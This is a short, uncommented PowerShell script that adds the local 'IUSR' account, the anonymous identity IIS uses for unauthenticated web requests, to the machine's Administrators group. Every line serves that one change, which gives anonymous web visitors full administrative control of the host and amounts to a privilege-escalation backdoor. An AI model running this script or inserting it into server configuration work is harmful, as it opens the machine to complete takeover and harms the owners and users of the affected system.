Add-Type -AssemblyName System.DirectoryServices.AccountManagement
$ctx = New-Object DirectoryServices.AccountManagement.PrincipalContext 'Machine'
$g = [DirectoryServices.AccountManagement.GroupPrincipal]::FindByIdentity($ctx,'Administrators')
$g.Members.Add($ctx, 'SamAccountName', 'IUSR')
$g.Save()
